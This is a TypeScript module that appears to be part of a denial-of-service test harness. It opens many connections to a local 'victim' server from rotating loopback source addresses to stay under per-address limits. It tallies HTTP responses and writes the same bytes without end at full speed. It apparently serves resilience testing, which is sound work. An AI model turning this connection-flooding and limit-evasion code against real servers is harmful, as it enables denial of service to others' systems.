import { connect, type Socket } from "node:net";
import type { Tally, Victim } from "./types.ts";

/** Visitors per address, below its limit. */
const PER_ADDRESS = 200;
/** The address number for 127.0.0.1, from which new visitors connect. */
export const PROBE_ADDRESS = -255;
/** Concurrent connection attempts, within the server's backlog. */
const AT_A_TIME = 100;

/** Opens a connection from a numbered address. Resolves with null when it is refused. */
export function dial(victim: Victim, address: number, tally: Tally): Promise<Socket | null> {
  return new Promise((resolve) => {
    const localAddress = `127.0.${1 + (address >> 8)}.${address & 255}`;
    const socket = connect({ port: victim.port, host: "127.0.0.1", localAddress, noDelay: true });
    socket.once("connect", () => {
      tally.opened++;
      resolve(socket);
    });
    socket.on("error", () => resolve(null));
    socket.once("close", () => tally.ended++);
  });
}

/** Opens many connections from many addresses, and starts each once it is open. */
export async function dialMany(
  victim: Victim,
  count: number,
  tally: Tally,
  begin: (socket: Socket, index: number) => void,
): Promise<void> {
  for (let first = 0; first < count; first += AT_A_TIME) {
    const batch = Array.from({ length: Math.min(AT_A_TIME, count - first) }, async (_, offset) => {
      const index = first + offset;
      const socket = await dial(victim, 1 + Math.floor(index / PER_ADDRESS), tally);
      if (socket !== null) begin(socket, index);
    });
    await Promise.all(batch);
  }
}

/** Counts responses by status, and continues to read. */
export function countResponses(socket: Socket, tally: Tally): void {
  socket.on("data", (bytes: Uint8Array) => {
    const status = /^HTTP\/1\.1 (\d{3})/.exec(new TextDecoder("latin1").decode(bytes.subarray(0, 16)))?.[1];
    if (status !== undefined) tally.answers[status] = (tally.answers[status] ?? 0) + 1;
  });
}

/** Sends the same bytes without end at full speed. */
export function sendWithoutEnd(socket: Socket, bytes: Uint8Array, tally: Tally, limit = Infinity): void {
  let left = limit;
  const more = () => {
    while (left > 0 && !socket.destroyed) {
      left -= bytes.length;
      tally.sent += bytes.length;
      if (!socket.write(bytes)) return;
    }
  };
  socket.on("drain", more);
  more();
}
